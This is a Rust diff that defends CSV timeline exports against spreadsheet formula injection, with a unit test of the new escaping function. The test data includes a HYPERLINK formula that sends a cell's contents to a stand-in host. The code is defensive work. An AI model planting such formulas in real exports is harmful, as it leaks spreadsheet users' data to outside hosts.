@@ -331,12 +331,23 @@ fn writer(out: &mut dyn Write) -> csv::Writer<&mut dyn Write> {
         .from_writer(out)
 }
 
+/// A cell that a spreadsheet would take for a formula (it starts with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return) gets a leading `'`, as OWASP recommends against CSV injection.
+/// `timeline.json` keeps the text as written.
+fn defused(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
 /// `/timeline.csv`: a header and one row per session.
 pub fn sessions_csv(t: &Timeline, out: &mut dyn Write) -> Result<(), DataError> {
     let mut w = writer(out);
     w.write_record(SESSION_COLUMNS)?;
     for s in &t.sessions {
-        w.write_record(session_row(&t.meta.base_url, s))?;
+        w.write_record(session_row(&t.meta.base_url, s).map(defused))?;
     }
     // Flushed here: dropping the writer would flush too, but swallow the error.
     w.flush().map_err(DataError::CsvFlush)
@@ -381,7 +392,7 @@ pub fn commitments_csv(t: &Timeline, out: &mut dyn Write) -> Result<(), DataErro
     w.write_record(MENTION_COLUMNS)?;
     for c in t.commitments.iter() {
         for m in &c.history {
-            w.write_record(mention_row(&t.meta.base_url, c, m))?;
+            w.write_record(mention_row(&t.meta.base_url, c, m).map(defused))?;
         }
     }
     w.flush().map_err(DataError::CsvFlush)
@@ -414,6 +425,30 @@ mod tests {
             String::from_utf8(bytes).unwrap(),
             "\"a,b\",\"say \"\"hi\"\"\",\"x\ny\"\r\n"
         );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_are_defused() {
+        let hostile = [
+            "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ];
+        for cell in hostile {
+            assert_eq!(defused(cell.to_string()), format!("'{cell}"));
+        }
+        for cell in ["Plain", "2025-01-01", "https://example.org/", "", "a=b"] {
+            assert_eq!(defused(cell.to_string()), cell);
+        }
+        let mut t = crate::output::opendata::sample();
+        std::sync::Arc::make_mut(&mut t.sessions[0]).title = "=1+2".into();
+        let sessions = String::from_utf8(bytes(|out| sessions_csv(&t, out))).unwrap();
+        assert!(sessions.contains(",'=1+2,"), "{sessions}");
+        let v: serde_json::Value = serde_json::from_slice(&bytes(|out| json(&t, out))).unwrap();
+        assert_eq!(v["sessions"][0]["title"], "=1+2");
     }
 
     #[test]
